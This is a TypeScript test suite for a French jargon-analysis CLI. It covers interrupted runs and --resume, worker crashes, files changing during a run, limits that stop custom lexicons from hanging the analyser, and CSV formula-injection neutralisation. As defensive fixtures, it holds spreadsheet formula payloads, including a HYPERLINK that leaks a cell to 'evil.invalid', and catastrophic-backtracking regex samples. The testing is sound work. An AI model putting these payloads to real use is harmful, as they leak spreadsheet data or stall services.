/**
 * Reliability and security (issue 7), where the other suites stop: an interrupted run of the
 * built binary (SIGINT, SIGTERM) leaves complete records that `--resume` completes into what an
 * uninterrupted run writes; a worker thread that dies costs its file an EWORKER record and
 * nothing else; a file that vanishes or changes during the run is a record too; a custom
 * lexicon cannot make the analyser hang; no CSV cell starts a spreadsheet formula.
 * Run `npm run build` first: the CLI tests spawn `node dist/cli/index.js`.
 */
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  CSV_DOCUMENT_COLUMNS,
  CSV_FINDING_COLUMNS,
  LexiconError,
  NovlangueError,
  analyze,
  analyzeCorpus,
  bundledLexicon,
  csvHeader,
  csvRows,
  extendLexicon,
  isCorpusFailure,
  loadLexicon,
  loadRules,
  readDocument,
  type CorpusFailure,
  type CorpusOptions,
  type CorpusResult,
  type LexiconEntry,
  type ReportOptions,
} from 'novlangue';
import { hostileDocument } from './fixtures/corpus/hostile.js';
import { parseCsv } from './helpers.js';

const BIN = fileURLToPath(new URL('../dist/cli/index.js', import.meta.url));

let root: string;
beforeAll(() => {
  if (!existsSync(BIN)) throw new Error(`${BIN} is missing: run \`npm run build\` before these tests.`);
  root = mkdtempSync(path.join(os.tmpdir(), 'novlangue-reliability-'));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
}

const env = (extra: Record<string, string> = {}): Record<string, string> => ({ PATH: process.env['PATH'] ?? '', ...extra });

/** Run the built binary in the test folder, to the end. */
function novlangue(args: string[], extra: Record<string, string> = {}): Run {
  const result = spawnSync(process.execPath, [BIN, ...args], { cwd: root, encoding: 'utf8', env: env(extra), timeout: 120_000 });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

const read = (name: string): string => readFileSync(path.join(root, name), 'utf8');
const write = (name: string, content: string | Buffer): void => {
  mkdirSync(path.dirname(path.join(root, name)), { recursive: true });
  writeFileSync(path.join(root, name), content);
};

/**
 * Run the binary and send it `signal` as soon as its output file holds `records` complete
 * records (after `skip` header lines); resolves to its exit status and stderr.
 */
async function interrupt(args: string[], output: string, signal: NodeJS.Signals, lineEnd: string, skip = 0): Promise<{ status: number | null; signal: NodeJS.Signals | null; stderr: string }> {
  const file = path.join(root, output);
  rmSync(file, { force: true });
  const child = spawn(process.execPath, [BIN, ...args], { cwd: root, env: env(), stdio: ['ignore', 'ignore', 'pipe'] });
  let stderr = '';
  child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
  const closed = once(child, 'close') as Promise<[number | null, NodeJS.Signals | null]>;
  let done = false;
  void closed.then(() => (done = true));
  while (!done && !(existsSync(file) && readFileSync(file, 'utf8').split(lineEnd).length > skip + 1)) await sleep(5);
  child.kill(signal);
  const [status, killedBy] = await closed;
  return { status, signal: killedBy, stderr };
}

const SENTENCES = [
  'La ville intelligente optimise les flux grâce aux capteurs connectés.',
  'Notre métropole résiliente et attractive co-construit un écosystème innovant.',
  'Les habitants participent à la smart city par une application citoyenne.',
  'Le numérique est la solution aux défis de la transition écologique.',
  'Le conseil municipal s’est réuni mardi soir à la mairie.',
  'La bibliothèque ouvre le dimanche et le marché se tient place Carnot.',
  'Les travaux de la rue des Lilas dureront trois semaines.',
];

/** A document of its own for every `i`: a mix of jargon and plain sentences, so scores differ. */
const documentText = (i: number): string =>
  `${Array.from({ length: 10 + (i % 7) }, (_, k) => SENTENCES[(i * 3 + k * (1 + (i % 4))) % SENTENCES.length]).join(' ')} Document ${i}.`;

describe('an interrupted run leaves complete records, and --resume completes them', () => {
  /**
   * Files given on their own whose names a spreadsheet would run (or that start with the `'`
   * of the neutralisation itself, or with a tab or CR), then a folder of 400 documents, a
   * binary file and a file of unknown type: 409 records.
   */
  const SINGLES = ['\tTab.txt', '\rCR.txt', "'quote.txt", '+plus.txt', './-moins.txt', '=cmd.txt', '@arobase.txt'];
  const INPUTS = [...SINGLES, 'docs'];
  const RECORDS = SINGLES.length + 400 + 2;
  let fullJsonl: string;
  let fullCsv: string;

  beforeAll(() => {
    SINGLES.forEach((name, i) => write(name, documentText(1000 + i)));
    write('=cmd.meta.json', JSON.stringify({ city: '=1+1', kind: '-2+3', date: '+33 1 23', source: '@SUM(A1:A9)' }));
    for (let i = 0; i < 400; i++) write(`docs/d${String(i).padStart(3, '0')}.txt`, documentText(i));
    write('docs/0-binaire.txt', Buffer.from([0, 1, 2, 3, 0, 0, 255, 0]));
    write('docs/zz-note.odt', 'pas lu');
    const jsonl = novlangue([...INPUTS, '-f', 'jsonl', '-o', 'full.jsonl', '-j', '1', '-q']);
    const csv = novlangue([...INPUTS, '-f', 'csv', '-o', 'full.csv', '-j', '1', '-q']);
    expect([jsonl.status, csv.status]).toEqual([0, 0]);
    fullJsonl = read('full.jsonl');
    fullCsv = read('full.csv');
  }, 120_000);

  const linesOf = (jsonl: string): string[] => jsonl.slice(0, -1).split('\n');

  it('the uninterrupted run: one record per input path, failures included', () => {
    const records = linesOf(fullJsonl).map((line) => JSON.parse(line) as { file: string; error?: { code: string } });
    expect(records).toHaveLength(RECORDS);
    expect(new Set(records.map((r) => r.file)).size).toBe(RECORDS);
    expect(records.filter((r) => r.error).map((r) => [r.file, r.error!.code])).toEqual([
      ['docs/0-binaire.txt', 'EBINARY'],
      ['docs/zz-note.odt', 'EFORMAT'],
    ]);
    expect(parseCsv(fullCsv)).toHaveLength(1 + RECORDS);
  });

  it.each([
    { signal: 'SIGINT', status: 130, jobs: '1' },
    { signal: 'SIGTERM', status: 143, jobs: '2' },
  ] as const)('jsonl, $signal (--jobs $jobs): every line parses, exit $status; --resume gives the uninterrupted run', async ({ signal, status, jobs }) => {
    const output = `cut-${signal}.jsonl`;
    const args = [...INPUTS, '-f', 'jsonl', '-o', output, '-j', jobs, '--min-pool-bytes', '0'];
    const run = await interrupt(args, output, signal, '\n');
    expect([run.status, run.signal]).toEqual([status, null]);
    expect(run.stderr).toContain(`novlangue: interrupted by ${signal}; the records written so far are complete: add --resume to the same command`);
    const cut = read(output);
    expect(cut.endsWith('\n')).toBe(true);
    const lines = linesOf(cut);
    for (const line of lines) expect(() => JSON.parse(line), line.slice(0, 80)).not.toThrow();
    expect(lines.length).toBeLessThan(RECORDS);
    // What an uninterrupted run writes first: records come in path order.
    expect(lines).toEqual(linesOf(fullJsonl).slice(0, lines.length));

    const resumed = novlangue([...args, '--resume']);
    expect(resumed.status).toBe(0);
    expect(resumed.stderr).toContain(`novlangue: resuming ${output}: ${lines.length} record${lines.length === 1 ? '' : 's'} already there, analysing the other files.`);
    const after = read(output);
    expect(linesOf(after).sort()).toEqual(linesOf(fullJsonl).sort());
    // The ordering guarantee: byte for byte the uninterrupted run.
    expect(after).toBe(fullJsonl);
  }, 120_000);

  it('csv, SIGINT: complete rows, exit 130; --resume gives the uninterrupted run', async () => {
    const args = [...INPUTS, '-f', 'csv', '-o', 'cut.csv', '-j', '1'];
    const run = await interrupt(args, 'cut.csv', 'SIGINT', '\r\n', 1);
    expect(run.status).toBe(130);
    const cut = read('cut.csv');
    const rows = parseCsv(cut);
    expect(rows[0]).toEqual([...CSV_DOCUMENT_COLUMNS]);
    for (const row of rows) expect(row).toHaveLength(CSV_DOCUMENT_COLUMNS.length);
    expect(rows.length - 1).toBeLessThan(RECORDS);
    expect(fullCsv.startsWith(cut)).toBe(true);
    const resumed = novlangue([...args, '--resume', '-q']);
    expect([resumed.status, resumed.stderr]).toEqual([0, '']);
    expect(read('cut.csv')).toBe(fullCsv);
  }, 120_000);

  it.each(['jsonl', 'csv'] as const)('%s: a last record cut short (a killed run) is cut off the file and its file analysed again', (format) => {
    const full = Buffer.from(format === 'jsonl' ? fullJsonl : fullCsv);
    const output = `killed.${format}`;
    // In the first line (the csv header), in the middle, in the last record: never at a line end.
    for (let cut of [5, Math.floor(full.length / 3), full.length - 3]) {
      while (full[cut - 1] === 0x0a) cut--;
      write(output, full.subarray(0, cut));
      const run = novlangue([...INPUTS, '-f', format, '-o', output, '-j', '1', '-q', '--resume']);
      expect(run.status, `cut at ${cut}`).toBe(0);
      expect(read(output), `cut at ${cut}`).toBe(full.toString('utf8'));
    }
  }, 120_000);

  it('--resume without the file starts from the beginning; over a complete file, it adds nothing', () => {
    rmSync(path.join(root, 'new.jsonl'), { force: true });
    expect(novlangue([...INPUTS, '-f', 'jsonl', '-o', 'new.jsonl', '-j', '1', '-q', '--resume']).status).toBe(0);
    expect(read('new.jsonl')).toBe(fullJsonl);
    const again = novlangue([...INPUTS, '-f', 'jsonl', '-o', 'new.jsonl', '-j', '1', '--resume']);
    expect(again.status).toBe(0);
    expect(again.stderr).toContain(`resuming new.jsonl: ${RECORDS} records already there`);
    expect(read('new.jsonl')).toBe(fullJsonl);
  }, 120_000);

  it('the records already there count as the run’s: --fail-above and the failure count', () => {
    const scores = linesOf(fullJsonl)
      .map((line) => (JSON.parse(line) as { score?: number }).score)
      .filter((score): score is number => score !== undefined)
      .sort((a, b) => a - b);
    const threshold = String(scores[Math.floor(scores.length / 2)]!);
    for (const format of ['jsonl', 'csv'] as const) {
      const output = `fail-above.${format}`;
      const args = [...INPUTS, '-f', format, '-o', output, '-j', '1', '--fail-above', threshold];
      const complete = novlangue(args);
      expect(complete.status, format).toBe(1);
      expect(complete.stderr, format).toMatch(/2 files could not be analysed \(EBINARY 1, EFORMAT 1\)/);
      // Keep the first 60 records: the binary file and documents on both sides of the threshold.
      const full = read(output);
      const end = format === 'jsonl' ? linesOf(full).slice(0, 60).join('\n').length + 1 : full.split('\r\n').slice(0, 61).join('\r\n').length + 2;
      write(output, full.slice(0, end));
      const resumed = novlangue([...args, '--resume']);
      expect(resumed.status, format).toBe(1);
      // The closing "wrote …" line gives the run's own time and counts: the rest is the same.
      const wrote = /^novlangue: wrote .*\n/m;
      expect(resumed.stderr.replace(/^novlangue: resuming .*\n/, '').replace(wrote, ''), format).toBe(complete.stderr.replace(wrote, ''));
      expect(read(output), format).toBe(full);
    }
  }, 120_000);

  it('the csv report neutralises file names and metadata a spreadsheet would run', () => {
    const rows = parseCsv(fullCsv);
    const at = (row: string[], column: string): string => row[CSV_DOCUMENT_COLUMNS.indexOf(column)]!;
    const names = SINGLES.map((name) => path.normalize(name));
    expect(rows.slice(1, 1 + SINGLES.length).map((row) => at(row, 'file'))).toEqual([...names].sort().map((name) => `'${name}`));
    const cmd = rows.find((row) => at(row, 'file') === "'=cmd.txt")!;
    expect(['city', 'kind', 'date', 'source'].map((column) => at(cmd, column))).toEqual(["'=1+1", "'-2+3", "'+33 1 23", "'@SUM(A1:A9)"]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each([
    [['-f', 'jsonl'], /--resume needs --output FILE/],
    [['-f', 'json', '-o', 'out.json'], /--resume applies to --format jsonl and csv, .*a json report is written whole at the end/],
    [['-f', 'html', '-o', 'out.html'], /--resume applies to --format jsonl and csv/],
    [['-f', 'md', '-o', 'out.md'], /--resume applies to --format jsonl and csv/],
    [['-o', 'out.txt'], /--resume applies to --format jsonl and csv/],
    [['-f', 'csv', '--per', 'finding', '-o', 'out.csv'], /--resume applies to --format csv --per document/],
  ])('%j --resume is a usage error: exit 2, nothing read or written', (args, message) => {
    const run = novlangue(['docs', ...args, '--resume']);
    expect([run.status, run.stdout]).toEqual([2, '']);
    expect(run.stderr).toMatch(message);
    for (const file of ['out.json', 'out.html', 'out.md', 'out.txt', 'out.csv']) expect(existsSync(path.join(root, file)), file).toBe(false);
  });

  it.each([
    ['notes.jsonl', 'mes notes\n', [], /cannot resume notes\.jsonl: line 1 is not JSON, so it is not the report of an interrupted novlangue run/],
    ['other.jsonl', '{"id": 1}\n{"id": 2}', [], /line 1 is not a record \(no "file"\)/],
    ['text.jsonl', 'FIRST3', ['--with-text'], /it was written without --with-text; resume with the options of the interrupted run/],
    ['table.csv', 'a,b,c\r\n1,2,3\r\n', ['-f', 'csv'], /first line is not the header of --format csv --per document/],
    ['short.csv', `${csvHeader()}x,y\r\n`, ['-f', 'csv'], /row 2 does not have the \d+ columns of --per document/],
    ['excel.csv', 'CSV', ['-f', 'csv', '--excel'], /it was written without --excel/],
  ])('%s: a file that is not such a report stops the run (exit 2) and is left as it is', (name, content, args, message) => {
    const body = content === 'FIRST3' ? `${linesOf(fullJsonl).slice(0, 3).join('\n')}\n` : content === 'CSV' ? fullCsv.slice(0, 2000) : content;
    write(name, body);
    const run = novlangue([...INPUTS, '-f', 'jsonl', ...args, '-o', name, '--resume']);
    expect([run.status, run.stdout]).toEqual([2, '']);
    expect(run.stderr).toMatch(message);
    expect(read(name)).toBe(body);
  });
});

describe('a worker thread that dies', () => {
  // 20 files, --jobs 2, --min-pool-bytes 0: a pool runs. Three files share the name the test hook crashes on.
  const FILES = [...Array.from({ length: 17 }, (_, i) => `pool/f${String(i).padStart(2, '0')}.txt`), 'pool/a/victime.txt', 'pool/b/victime.txt', 'pool/c/victime.txt'].sort();
  type Line = { file: string; error?: { code: string; message: string } };
  const records = (run: Run): Line[] => run.stdout.trimEnd().split('\n').map((line) => JSON.parse(line) as Line);
  let normal: Run;

  beforeAll(() => {
    FILES.forEach((file, i) => write(file, documentText(i)));
    normal = novlangue(['pool', '-f', 'jsonl', '-j', '1', '-q']);
    expect(normal.status).toBe(0);
  });

  it('costs its file an EWORKER record; the other files are analysed, exit 0', () => {
    const run = novlangue(['pool', '-f', 'jsonl', '-j', '2', '--min-pool-bytes', '0'], { NOVLANGUE_TEST_CRASH_ON: 'f05.txt' });
    expect(run.status).toBe(0);
    const lines = records(run);
    expect(lines.map((r) => r.file)).toEqual(FILES);
    expect(lines.filter((r) => r.error)).toEqual([
      { file: 'pool/f05.txt', error: { code: 'EWORKER', message: 'pool/f05.txt: the worker analysing it stopped (worker exited with code: 70)' } },
    ]);
    expect(run.stderr).toBe('novlangue: 1 file could not be analysed (EWORKER 1); see their records in the report.\n');
    // Every other record is what a run without a crash writes.
    const others = (stdout: string): string[] => stdout.split('\n').filter((line) => !line.startsWith('{"file":"pool/f05.txt"'));
    expect(others(run.stdout)).toEqual(others(normal.stdout));
  });

  it('more deaths than threads: each dead worker is replaced and the run ends', () => {
    const run = novlangue(['pool', '-f', 'jsonl', '-j', '2', '--min-pool-bytes', '0', '-q'], { NOVLANGUE_TEST_CRASH_ON: 'victime.txt' });
    expect(run.status).toBe(0);
    const lines = records(run);
    expect(lines.map((r) => r.file)).toEqual(FILES);
    expect(lines.filter((r) => r.error).map((r) => [r.file, r.error!.code])).toEqual([
      ['pool/a/victime.txt', 'EWORKER'],
      ['pool/b/victime.txt', 'EWORKER'],
      ['pool/c/victime.txt', 'EWORKER'],
    ]);
  });

  it('the test hook is inert without a pool', () => {
    const run = novlangue(['pool', '-f', 'jsonl', '-j', '1', '-q'], { NOVLANGUE_TEST_CRASH_ON: 'f05.txt' });
    expect([run.status, run.stdout]).toEqual([0, normal.stdout]);
  });

  /** `seul/`: a text of 8 million characters between two short ones. */
  const writeLongText = (): void => {
    write('seul/archive.txt', `${documentText(0)}\n\n`.repeat(Math.ceil(8e6 / documentText(0).length)));
    ['seul/a.txt', 'seul/b.txt'].forEach((file, i) => write(file, documentText(i + 1)));
  };

  it('without a pool, a text of 8 million characters or more is analysed in a thread of its own, whose death costs only that file', () => {
    writeLongText();
    const run = novlangue(['seul', '-f', 'csv', '-j', '1', '-q'], { NOVLANGUE_TEST_CRASH_ON: 'archive.txt' });
    expect(run.status).toBe(0);
    const rows = run.stdout.trimEnd().split('\r\n').slice(1);
    expect(rows.map((row) => row.split(',')[0])).toEqual(['seul/a.txt', 'seul/archive.txt', 'seul/b.txt']);
    expect(rows[1]).toContain('EWORKER,seul/archive.txt: the worker analysing it stopped (worker exited with code: 70)');
    expect(rows[0]).not.toContain('EWORKER');
    expect(rows[2]).not.toContain('EWORKER');
  });

  it('full records (tokens placed on first read) of such a text stay in the calling thread', async () => {
    writeLongText();
    const records = async (lean: boolean): Promise<string[]> => {
      const out: string[] = [];
      for await (const result of analyzeCorpus(path.join(root, 'seul'), { jobs: 1, lean })) out.push(isCorpusFailure(result) ? result.error.code : 'document');
      return out;
    };
    process.env['NOVLANGUE_TEST_CRASH_ON'] = 'archive.txt';
    try {
      expect(await records(true)).toEqual(['document', 'EWORKER', 'document']);
      expect(await records(false)).toEqual(['document', 'document', 'document']);
    } finally {
      delete process.env['NOVLANGUE_TEST_CRASH_ON'];
    }
  });
});

describe('files that change during the run: every path appears exactly once', () => {
  async function collect(paths: string, options: CorpusOptions): Promise<CorpusResult[]> {
    const results: CorpusResult[] = [];
    for await (const result of analyzeCorpus(paths, options)) results.push(result);
    return results;
  }
  const outcome = (result: CorpusResult): string => (isCorpusFailure(result) ? result.error.code : 'document');

  it.each([1, 2])('a file deleted between the listing and its reading is ECHANGED (--jobs %i)', async (jobs) => {
    const dir = path.join(root, `vanish-${jobs}`);
    const names = Array.from({ length: 12 }, (_, i) => `f${String(i).padStart(2, '0')}.txt`);
    names.forEach((name, i) => write(path.join(`vanish-${jobs}`, name), documentText(i)));
    let listed = -1;
    const results = await collect(dir, {
      jobs,
      minPoolBytes: 0,
      onListed: (count) => {
        listed = count;
        rmSync(path.join(dir, 'f04.txt'));
        rmSync(path.join(dir, 'f09.txt'));
      },
    });
    expect(listed).toBe(12);
    expect(results.map((r) => path.basename(r.file))).toEqual(names);
    expect(results.map(outcome)).toEqual(names.map((name) => (name === 'f04.txt' || name === 'f09.txt' ? 'ECHANGED' : 'document')));
    expect((results[4] as CorpusFailure).error.message).toBe(`${dir}/f04.txt: vanished after it was listed (deleted or moved during the run)`);
  });

  it('a file replaced by a folder after the listing is EISDIR', async () => {
    const dir = path.join(root, 'replaced');
    write('replaced/a.txt', documentText(1));
    write('replaced/b.txt', documentText(2));
    const results = await collect(dir, {
      onListed: () => {
        rmSync(path.join(dir, 'b.txt'));
        mkdirSync(path.join(dir, 'b.txt'));
      },
    });
    expect(results.map(outcome)).toEqual(['document', 'EISDIR']);
  });

  it.runIf(existsSync('/proc/self/status'))('a file whose size changes while it is read is ECHANGED', async () => {
    // A /proc file announces 0 bytes and has more: what a file being appended to looks like.
    await expect(readDocument('/proc/self/status', { name: 'status' })).rejects.toMatchObject({
      code: 'ECHANGED',
      message: expect.stringMatching(/^status: changed while being read \(0 bytes announced, 1 read\); run again once it is written$/),
    });
  });

  it('skip: records already written are left out, unread and uncounted', async () => {
    write('skip/a.txt', documentText(1));
    write('skip/b.txt', documentText(2));
    write('skip/c.txt', documentText(3));
    const cwd = process.cwd();
    process.chdir(root);
    try {
      let listed = -1;
      const results = await collect('skip', { skip: ['skip/a.txt', 'skip/c.txt', 'elsewhere.txt'], onListed: (count) => (listed = count) });
      expect([listed, results.map((r) => r.file)]).toEqual([1, ['skip/b.txt']]);
      // A listing failure is a record like any other.
      expect(await collect('absent.txt', { skip: new Set(['absent.txt']) })).toEqual([]);
      await expect(collect('skip', { skip: 'skip/a.txt' as unknown as string[] })).rejects.toThrow(/option "skip" must be an array or a set of file names/);
      await expect(collect('skip', { skip: [1] as unknown as string[] })).rejects.toThrow(NovlangueError);
    } finally {
      process.chdir(cwd);
    }
  });
});

describe('custom lexicons cannot hurt', () => {
  const NOTE = 'A test entry, long enough for the schema.';
  const entry = (id: string, patterns: string[], extra: Partial<LexiconEntry> = {}): LexiconEntry => ({
    id,
    category: 'buzzwords',
    patterns,
    weight: 1,
    note: NOTE,
    section: 'OUVERTURE',
    ...extra,
  });
  /** A word of letters only, different for every `n`: `ba`, `bb`… */
  const word = (n: number): string => `b${n.toString(26).replace(/./g, (digit) => String.fromCharCode(97 + parseInt(digit, 26)))}`;
  const lexiconError = (data: unknown, load: (data: unknown) => unknown = (d) => loadLexicon(d, 'custom.json')): LexiconError => {
    try {
      load(data);
    } catch (error) {
      expect(error).toBeInstanceOf(LexiconError);
      return error as LexiconError;
    }
    throw new Error('expected a LexiconError');
  };

  /** Best of three wall times of `analyze(text, { lexicon })`, in ms. */
  function bestTime(text: string, lexicon: ReturnType<typeof loadLexicon>): number {
    let best = Infinity;
    for (let i = 0; i < 3; i++) {
      const start = performance.now();
      analyze(text, { lexicon, lang: 'fr' });
      best = Math.min(best, performance.now() - start);
    }
    return best;
  }
  /** Not a speed target: linear costs ~4x for 4x the input, quadratic ~16x, exponential never ends. */
  function expectLinear(lexicon: ReturnType<typeof loadLexicon>, make: (size: number) => string, size: number): void {
    analyze(make(size / 2), { lexicon, lang: 'fr' });
    const small = bestTime(make(size), lexicon);
    const large = bestTime(make(4 * size), lexicon);
    expect(large / Math.max(small, 1)).toBeLessThan(10);
  }

  it('a pattern of 66 optional slots (catastrophic: 2^66 ways to try it) is refused, naming file, entry and field', () => {
    const pathological = `y${' y?'.repeat(66)}`;
    expect(pathological.length).toBeLessThanOrEqual(200);
    const error = lexiconError({ lang: 'fr', entries: [entry('ok', ['ville']), entry('optionnel', ['ville', pathological])] });
    expect(error).toMatchObject({ file: 'custom.json', entryId: 'optionnel', field: 'patterns[1]' });
    expect(error.message).toMatch(/^custom\.json \(entry "optionnel", field "patterns\[1\]"\): pattern "y y\? .*" has 66 optional slots; at most 4 are allowed/);
    expect(lexiconError({ lang: 'fr', entries: [entry('cinq', ['y y? y? y? y? y?'])] }).message).toMatch(/has 5 optional slots; at most 4/);
  });

  it('the limits: slots, patterns per word, context words; each error names the entry and the field', () => {
    expect(lexiconError({ lang: 'fr', entries: [entry('long', [Array.from({ length: 17 }, (_, i) => word(i)).join(' ')])] }).message).toMatch(
      /\(entry "long", field "patterns\[0\]"\): .* has 17 slots \(tokens\); at most 16/,
    );
    const crowd = Array.from({ length: 11 }, (_, e) => entry(`la-${e}`, Array.from({ length: 5 }, (_, p) => `=la ${word(e * 5 + p)}`)));
    expect(lexiconError({ lang: 'fr', entries: crowd })).toMatchObject({ entryId: 'la-10', field: 'patterns[0]', message: expect.stringMatching(/more than 50 patterns start with "la"/) });
    // Extending counts the bundled patterns too.
    const smart = Array.from({ length: 40 }, (_, e) => entry(`smart-${e}`, [`smart =${word(e)}`]));
    expect(lexiconError({ lang: 'en', entries: smart }, (d) => extendLexicon(bundledLexicon('en'), d, 'custom.json')).message).toMatch(/more than 50 patterns start with stem "smart"/);
    expect(() => loadLexicon({ lang: 'en', entries: smart })).not.toThrow();
    const words = Array.from({ length: 11 }, (_, i) => word(i));
    expect(lexiconError({ lang: 'fr', entries: [entry('near', ['=y'], { context: { near: [words.join(' ')], window: 3 } })] })).toMatchObject({
      entryId: 'near',
      field: 'context.near',
      message: expect.stringMatching(/11 words to look for; at most 10/),
    });
    expect(lexiconError({ lang: 'fr', entries: [entry('not-near', ['=y'], { context: { notNear: words, window: 3 } })] }).message).toMatch(
      /\(entry "not-near", field "context.notNear"\): must NOT have more than 10 items/,
    );
    expect(lexiconError({ lang: 'fr', entries: [entry('patterns', Array.from({ length: 51 }, (_, i) => `=p${i}`))] }).message).toMatch(/field "patterns"\): must NOT have more than 50 items/);
    expect(lexiconError({ lang: 'fr', entries: [entry('chars', [`=${'a|'.repeat(100)}b`])] }).message).toMatch(/field "patterns\[0\]"\): must NOT have more than 200 characters/);
    expect(lexiconError({ lang: 'fr', entries: Array.from({ length: 5001 }, (_, i) => entry(`e${i}`, [`=e${i}`])) }).message).toMatch(/^custom\.json \(field "entries"\): must NOT have more than 5000 items/);
  });

  it('unknown keys are refused anywhere, naming the file, the entry and the field', () => {
    expect(lexiconError({ lang: 'fr', entries: [entry('ctx', ['=y'], { context: { near: ['=z'], window: 3, regex: '(a+)+$' } as never })] })).toMatchObject({
      message: 'custom.json (entry "ctx", field "context.regex"): unknown key "regex"',
      entryId: 'ctx',
      field: 'context.regex',
    });
    expect(lexiconError({ lang: 'fr', entries: [{ ...entry('pattern-regex', ['=y']), regex: '(a|a)*b' }] }).message).toBe('custom.json (entry "pattern-regex", field "regex"): unknown key "regex"');
    expect(lexiconError({ lang: 'fr', entries: [], rules: [] }).message).toBe('custom.json (field "rules"): unknown key "rules"');
  });

  it('pattern rules have the same limit on optional slots', () => {
    const rule = (pattern: string): unknown => ({
      lang: 'fr',
      rules: [{ id: 'optionnel', kind: 'sequence', category: 'solutionism', message: 'Test rule', note: NOTE, section: 'OUVERTURE', weight: 1, example: 'y y y y', span: 'clause', patterns: [pattern] }],
    });
    expect(() => loadRules(rule('y y? y? y? y?'), 'rules.json')).not.toThrow();
    expect(lexiconError(rule(`y${' y?'.repeat(40)}`), (d) => loadRules(d, 'rules.json'))).toMatchObject({
      file: 'rules.json',
      entryId: 'optionnel',
      message: expect.stringMatching(/has 40 optional slots; at most 4 are allowed/),
    });
  });

  it('a lexicon at the limits runs in linear time on the text made to match it everywhere', () => {
    // 2 × 25 patterns start with "y" (by stem and by form), each 16 slots with 4 optional
    // ones, and a context whose words never come: every token tries everything.
    const slots = (first: string): string => [first, 'y?', 'y?', 'y?', 'y?', ...Array<string>(11).fill('y')].join(' ');
    const context = { near: ['zza', 'zzb', 'zzc', 'zzd', 'zze'], notNear: ['xxa', 'xxb'], window: 10 };
    const entries = [
      ...Array.from({ length: 5 }, (_, e) => entry(`stem-${e}`, Array<string>(5).fill(slots('y')), { context })),
      ...Array.from({ length: 5 }, (_, e) => entry(`form-${e}`, Array<string>(5).fill(slots('=y')), { context })),
    ];
    const lexicon = loadLexicon({ lang: 'fr', entries });
    expectLinear(lexicon, (size) => 'y '.repeat(size / 2), 2_000);
    // The same without the context: matches are found, consumed, and counted.
    const matching = loadLexicon({ lang: 'fr', entries: entries.map(({ context: _context, ...rest }) => rest) });
    expect(analyze('y '.repeat(160), { lexicon: matching, lang: 'fr' }).findings).toHaveLength(10);
    expectLinear(matching, (size) => 'y '.repeat(size / 2), 20_000);
  });

  it('a huge alternation is a set look-up: linear time', () => {
    // Slots of 12 alternatives each, and 40 patterns starting with the same ones.
    const alternatives = (from: number): string => Array.from({ length: 12 }, (_, i) => `=${word(from + i)}`).join('|');
    const [a, b, c] = [alternatives(0), alternatives(100), alternatives(200)];
    expect(`${a} ${b} ${c}?`.length).toBeLessThanOrEqual(200);
    const entries = Array.from({ length: 20 }, (_, e) => entry(`alt-${e}`, [`${a} ${b}`, `${a} ${c} ${b}?`]));
    const lexicon = loadLexicon({ lang: 'fr', entries });
    const sample = `${word(3)} ${word(203)} ${word(104)} ${word(5)} ${word(110)} ${word(7)} `;
    expect(analyze(sample, { lexicon, lang: 'fr' }).findings).toHaveLength(2);
    expectLinear(lexicon, (size) => sample.repeat(size / sample.length), 20_000);
  });

  it('the CLI refuses a pathological lexicon with status 2, naming it, at once', () => {
    write('pathological.json', JSON.stringify({ lang: 'fr', entries: [entry('optionnel', [`y${' y?'.repeat(66)}`])] }));
    write('y.txt', 'y '.repeat(5_000));
    const run = novlangue(['y.txt', '--lexicon', 'pathological.json', '-j', '1']);
    expect([run.status, run.stdout]).toEqual([2, '']);
    expect(run.stderr).toMatch(/^novlangue: pathological\.json \(entry "optionnel", field "patterns\[0\]"\): pattern .* has 66 optional slots; at most 4 are allowed/);
  });
});

describe('CSV cells never start a formula', () => {
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
  const findingColumns = ['file', 'folder', 'actual', 'message', 'section', 'note'];
  const documentColumns = ['file', 'folder', 'city', 'kind', 'date', 'source'];

  it.each(TRIGGERS)('%j first, in text, file names and metadata: prefixed with \', in both csv modes', (trigger) => {
    const value = `${trigger}HYPERLINK("http://evil.invalid?"&A1,"x")`;
    const base = hostileDocument(`${value}.txt`);
    const document = {
      ...base,
      folder: value,
      meta: { city: value, kind: value, date: value, source: value },
      findings: base.findings.map((finding) => ({ ...finding, actual: value, message: value, section: value, note: value })),
    };
    const failure: CorpusFailure = { file: `${value}.pdf`, error: { code: 'EPDF_PARSE', message: `${value}.pdf: cannot parse the PDF` } };
    const csv = (options: ReportOptions): string[][] => parseCsv(csvHeader(options) + csvRows(document, options) + csvRows(failure, options));

    const byDocument = csv({});
    const at = (columns: readonly string[], row: string[], column: string): string => row[columns.indexOf(column)]!;
    for (const column of documentColumns) expect(at(CSV_DOCUMENT_COLUMNS, byDocument[1]!, column), column).toBe(`'${column === 'file' ? `${value}.txt` : value}`);
    expect([at(CSV_DOCUMENT_COLUMNS, byDocument[2]!, 'file'), at(CSV_DOCUMENT_COLUMNS, byDocument[2]!, 'error_message')]).toEqual([`'${value}.pdf`, `'${value}.pdf: cannot parse the PDF`]);

    const byFinding = csv({ per: 'finding' });
    expect(byFinding).toHaveLength(1 + document.findings.length + 1);
    for (const row of byFinding.slice(1, -1)) {
      for (const column of findingColumns) expect(at(CSV_FINDING_COLUMNS, row, column), column).toBe(`'${column === 'file' ? `${value}.txt` : value}`);
    }
    expect(at(CSV_FINDING_COLUMNS, byFinding.at(-1)!, 'error_message')).toBe(`'${value}.pdf: cannot parse the PDF`);

    for (const row of [...byDocument, ...byFinding]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("a cell that starts with ' gets one more, so the prefix can always be told from the text", () => {
    const rows = parseCsv(csvHeader() + csvRows(hostileDocument("'=quoted.txt")) + csvRows(hostileDocument("=quoted.txt")));
    expect(rows.slice(1).map((row) => row[0])).toEqual(["''=quoted.txt", "'=quoted.txt"]);
  });

  it('a custom lexicon’s note starting a formula is neutralised in the CLI’s --per finding output', () => {
